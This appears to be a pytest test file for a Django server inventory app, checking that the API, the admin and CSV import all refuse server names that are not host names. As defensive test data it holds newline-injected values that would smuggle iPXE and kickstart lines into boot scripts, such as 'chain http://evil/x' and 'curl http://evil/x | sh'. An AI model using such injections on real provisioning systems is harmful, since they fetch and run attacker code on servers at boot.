"""Server names are host names: every way in refuses others with the rule in the message."""

import pytest
from django.urls import reverse

from inventory.importing import import_servers
from inventory.models import Server
from tests.factories import NO_CONNECTION_ROWS, make_profile, make_server

RULE = "A server name is a host name"
HOSTILE = [
    "a\nchain http://evil/x",
    "a\r\n%end\n%pre\ncurl http://evil/x | sh\n%end",
    "Web-01",
    "web_01",
    "web 01",
    "web-01.example.com",
    "-web",
    "web-",
    "wéb-01",
    "a" * 64,
    "web\u202801",
]


def enrol_payload(name: str) -> dict:
    return {
        "name": name,
        "configuration": make_profile().name,
        "bmc": {"address": "10.0.0.5", "port": 623, "username": "ADMIN", "password": "pw"},
    }


def test_the_api_refuses_a_name_that_would_become_ipxe_lines(admin_api):
    response = admin_api.post(
        "/api/v1/servers/", enrol_payload("a\nchain http://evil/x"), format="json"
    )
    assert response.status_code == 400, response.json()
    assert RULE in response.json()["name"][0]
    assert not Server.objects.exists()


@pytest.mark.parametrize("name", HOSTILE)
def test_the_api_refuses_names_that_are_not_host_names(admin_api, name):
    response = admin_api.post("/api/v1/servers/", enrol_payload(name), format="json")
    assert response.status_code == 400, response.json()
    assert RULE in response.json()["name"][0]


@pytest.mark.parametrize("name", ["web-01", "a", "7", "1u-r3-node12", "a" * 63])
def test_the_api_accepts_host_names(admin_api, name):
    response = admin_api.post("/api/v1/servers/", enrol_payload(name), format="json")
    assert response.status_code == 201, response.json()
    assert Server.objects.get().name == name


def test_renaming_through_the_api_follows_the_same_rule(admin_api, free_server):
    url = f"/api/v1/servers/{free_server.pk}/"
    response = admin_api.patch(url, {"name": "x\nchain http://evil/x"}, format="json")
    assert response.status_code == 400
    assert RULE in response.json()["name"][0]
    assert admin_api.patch(url, {"name": "db-02"}, format="json").status_code == 200


def test_the_admin_refuses_a_name_that_is_not_a_host_name(client, admin):
    client.force_login(admin)
    response = client.post(
        reverse("admin:inventory_server_add"),
        {
            "name": "Web_01",
            "profile": make_server().profile_id,
            "state": "ready",
            "facts": "{}",
            "bmc-TOTAL_FORMS": "0",
            "bmc-INITIAL_FORMS": "0",
            "ip_addresses-TOTAL_FORMS": "0",
            "ip_addresses-INITIAL_FORMS": "0",
            **NO_CONNECTION_ROWS,
        },
    )
    assert response.status_code == 200
    assert RULE in response.content.decode()
    assert not Server.objects.filter(name="Web_01").exists()


def test_the_csv_import_refuses_the_row_and_names_the_rule(admin):
    make_profile(name="E-2236-32G")
    text = (
        "name,configuration,bmc_address,bmc_username,bmc_password\n"
        "web-01,E-2236-32G,10.0.0.1,admin,pw\n"
        '"web-02\nchain http://evil/x",E-2236-32G,10.0.0.2,admin,pw\n'
        "DB.example,E-2236-32G,10.0.0.3,admin,pw\n"
    )
    report = import_servers(actor=admin, text=text)
    assert not report.ok and report.enrolled == []
    reasons = [reason for _line, reason in report.refused]
    assert len(reasons) == 2
    assert all(reason.startswith(f"name: {RULE}") for reason in reasons), reasons
    assert not Server.objects.exists()
